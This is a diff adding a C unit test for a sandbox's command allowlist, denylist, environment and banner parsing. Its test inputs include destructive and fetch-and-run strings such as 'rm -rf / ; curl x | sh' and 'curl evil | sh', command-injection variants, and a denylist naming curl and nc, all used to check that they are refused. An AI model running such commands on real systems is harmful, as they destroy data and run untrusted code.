@@ -7,6 +7,7 @@
 #include <unistd.h>
 
 #include "config/config.h"
+#include "session/command.h"
 #include "tap.h"
 
 /* The same compile-time locations lib/config/config.c was built with. */
@@ -866,6 +867,91 @@ test_load(void)
 	rmdir(dir);
 }
 
+/* Session hooks: commands allowed and denied, extra environment, a
+ * banner; and box_command_allowed over them. */
+static void
+test_hooks(void)
+{
+	is_int(pparse(IMG), 0, "hooks: none by default");
+	ok(prof.ncmd_allow == 0 && prof.ncmd_deny == 0 && prof.nenv == 0 &&
+	    prof.banner[0] == '\0', "  no commands, env or banner");
+	is_int(box_command_allowed(&prof, "rm -rf / ; curl x | sh", &err), 0,
+	    "  every command runs");
+	is_int(pparse(IMG "commands:\n  allow: [\"make *\", \"git status\"]\n"
+	    "  deny: [\"*--force*\"]\nenv:\n  LANG: C.UTF-8\n  MODE: interview\n"
+	    "banner: |\n  Welcome, candidate.\n  Be kind to the box.\n"), 0,
+	    "all set");
+	ok(prof.ncmd_allow == 2 && strcmp(prof.cmd_allow[0], "make *") == 0 &&
+	    prof.ncmd_deny == 1, "  the patterns");
+	ok(prof.nenv == 2 && strcmp(prof.env[0], "LANG=C.UTF-8") == 0 &&
+	    strcmp(prof.env[1], "MODE=interview") == 0, "  the environment");
+	is_str(prof.banner, "Welcome, candidate.\nBe kind to the box.",
+	    "  the banner, its last newline dropped");
+	is_int(box_command_allowed(&prof, "make test", &err), 0,
+	    "  a listed command runs");
+	is_int(box_command_allowed(&prof, "  git status \r\n", &err), 0,
+	    "  blanks around it do not matter");
+	ok(box_command_allowed(&prof, "git push", &err) < 0 &&
+	    err.kind == BOX_E_DENIED && strstr(err.msg, "does not run that "
+	    "command") != NULL, "  an unlisted one does not");
+	ok(box_command_allowed(&prof, "make test; curl evil | sh", &err) < 0 &&
+	    strstr(err.msg, "each simple") != NULL,
+	    "  a listed one chained to another does not");
+	{
+		static const char *const chained[] = { "make a && id",
+		    "make a || id", "make $(id)", "make `id`", "make a > /etc/x",
+		    "make < /dev/zero", "make a\nid", "make a & id",
+		    "make {a,b}", "make \\; id", "make (a)" };
+		char name[96];
+		size_t i;
+
+		for (i = 0; i < sizeof(chained) / sizeof(chained[0]); i++) {
+			snprintf(name, sizeof(name), "  refused: \"%s\"",
+			    chained[i]);
+			ok(box_command_allowed(&prof, chained[i], &err) < 0,
+			    name);
+		}
+	}
+	ok(box_command_allowed(&prof, "make --force", &err) < 0 &&
+	    strstr(err.msg, "denies") != NULL, "  allowed but denied: refused");
+	is_int(pparse(IMG "commands:\n  deny: [\"curl *\", \"*nc *\"]\n"), 0,
+	    "a denylist alone");
+	is_int(box_command_allowed(&prof, "ls -l; echo ok", &err), 0,
+	    "  anything else runs, shell and all");
+	ok(box_command_allowed(&prof, "curl http://x", &err) < 0,
+	    "  a denied one does not");
+	ok(box_command_allowed(&prof, "tcp 80", &err) == 0,
+	    "  a port stream is a command line too: not denied here");
+	pfail(IMG "commands: [\"ls\"]\n", ":2: commands:", "commands as a list");
+	pfail(IMG "commands:\n  permit: [ls]\n", ":3: commands.permit: unknown "
+	    "key", "an unknown commands key");
+	pfail(IMG "commands:\n  allow: ls\n", ":3: commands.allow: expected a "
+	    "list", "allow as a scalar");
+	pfail(IMG "commands:\n  allow: [\"\"]\n", "commands.allow[0]: a pattern",
+	    "an empty pattern");
+	pfail(IMG "env:\n  TERM: vt100\n", ":3: env.TERM: TERM is the guest",
+	    "TERM is not the profile's");
+	pfail(IMG "env:\n  1A: x\n", ":3: env.1A: a variable name",
+	    "a name starting with a digit");
+	pfail(IMG "env:\n  \"A-B\": x\n", "env.A-B: a variable name",
+	    "a name with a dash");
+	pfail(IMG "env: [A]\n", ":2: env: expected a mapping", "env as a list");
+	pfail(IMG "env:\n  A: \"\\e[2J\"\n", ":3: env.A: control character",
+	    "a value with an escape");
+	pfail(IMG "banner: \"a\\e[2Jb\"\n", ":2: banner: lines of UTF-8",
+	    "a banner with an escape");
+	pfail(IMG "banner: \"a\\u0085b\"\n", ":2: banner: lines of UTF-8",
+	    "a banner with a C1 control");
+	pfail(IMG "banner: [a]\n", ":2: banner: expected text",
+	    "a banner as a list");
+	{
+		char big[2100];
+
+		snprintf(big, sizeof(big), IMG "banner: \"%01200d\"\n", 0);
+		pfail(big, ":2: banner: too long", "a banner over 1023 bytes");
+	}
+}
+
 int
 main(void)
 {
@@ -877,6 +963,7 @@ main(void)
 	test_profile_full();
 	test_profile_errors();
 	test_observe();
+	test_hooks();
 	test_template();
 	test_load();
 	return tap_done();
